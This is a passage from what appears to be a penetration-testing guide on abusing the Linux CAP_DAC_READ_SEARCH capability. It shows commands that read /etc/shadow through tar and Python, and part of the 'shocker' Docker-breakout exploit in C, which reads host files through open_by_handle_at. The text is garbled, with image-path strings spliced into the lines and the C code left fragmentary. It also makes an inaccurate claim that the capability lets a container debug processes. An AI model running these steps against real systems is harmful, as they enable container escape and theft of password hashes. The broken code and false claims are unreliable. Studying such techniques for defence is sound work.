opaqueidentifier retrieved using name_to_handle_at(2). However, this handle contains sensitive and tamperable information, such as inode numbers. This was first shown to be an issue in Docker containers by Sebastian Krahmer with shocker exploit. This means that you can bypass can bypass file read permission checks and directory read/execute permission checks.
Example with binary
The binary will be able to read any file. So, if a file like tar has this capability it will be able to read the shadow file:
cd /etc
tar -czf /tmp/shadow.tar.gz shadow #Compress show file in /tmp
cd /tmp
tar -cxf shadow.tar.gz
Example with binary2
In this case lets suppose that python binary has this capability. In order to list root files you could do:
import os
for r, d, f in os.walk('/root'):
for filename in f:
And in order to read a file you could do:
print(open("/etc/shadow", "r").read())
Example in Environment (Docker breakout)
You can check the enabled capabilities inside the docker container using:
capsh --print
Current: =cap_chown,cap_dac_override,cap_dac_read_search,cap_fowner,cap_fsetid,cap_kill,cap_setgid,cap_setuid,cap_setpcap,cap_net_bind_service,cap_net_raw,cap_sys_chroot,cap_mknod,cap_audit_write,cap_setfcap+ep
Bounding set =cap_chown,cap_dac_override,cap_dac_read_search,cap_fowner,cap_fsetid,cap_kill,cap_setgid,cap_setuid,cap_setpcap,cap_net_bind_service,cap_net_raw,cap_sys_chroot,cap_mknod,cap_audit_write,cap_setfcap
Securebits: 00/0x0/1'b0
secure-noroot: no (unlocked)
secure-no-suid-fixup: no (unlocked)
secure-keep-caps: no (unlocked)
Inside the previous output you can see that the DAC_READ_SEARCH capability is enabled. As a result, the container can debug processes.
You can learn how the following exploiting works in https://medium.com/@fun_cuddles/docker-breakout-exploit-analysis-a274fff0e6b3 but in resume CAP_DAC_READ_SEARCH not only allows us to traverse the file system without permission checks, but also explicitly removes any checks to open_by_handle_at(2) and could allow our process to sensitive files opened by other processes.
The original exploit that abuse this permissions to read files from the host can be found here: http://stealth.openwall.net/xSports/shocker.c, the following is a modified version that allows you to indicate the file you want to read as first argument and dump it in a file.
#include <stdio.h>
#include <sys/types.h>
#include <sys/stat.h>
#include <fcntl.h>#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dirent.h>
#include <stdint.h>
// gcc shocker.c -o shocker
// ./socker /etc/shadow shadow #Read /etc/shadow from host and save result in shadow file in current dir
struct my_file_handle {
unsigned int handle_bytes;
int handle_type;
unsigned char f_handle[8];
void die(const char *msg)
void dump_handle(const struct my_file_handle *h)
fprintf(stderr,"[*] #=%d, %d, char nh[] = {", h->handle_bytes,
for (int i = 0; i < h->handle_bytes; ++i) {
fprintf(stderr,"0x%02x", h->f_handle[i]);
if ((i + 1) % 20 == 0)
if (i < h->handle_bytes - 1)
fprintf(stderr,", ");
int find_handle(int bfd, const char *path, const struct my_file_handle *ih, struct my_file_handleint fd;
uint32_t ino = 0;
struct my_file_handle outh = {
.handle_bytes = 8,
.handle_type = 1
DIR *dir = NULL;
struct dirent *de = NULL;
path = strchr(path, '/');
// recursion stopsif path has been resolved
if (!path) {
memcpy(oh->f_handle, ih->f_handle, sizeof(oh->f_handle));
oh->handle_type = 1;oh->handle_bytes = 8;
return 1;
fprintf(stderr, "[*] Resolving '%s'\n", path);
if ((fd = open_by_handle_at(bfd,(struct file_handle *)ih,O_RDONLY)) < 0)
die("[-]open_by_handle_at");if ((dir = fdopendir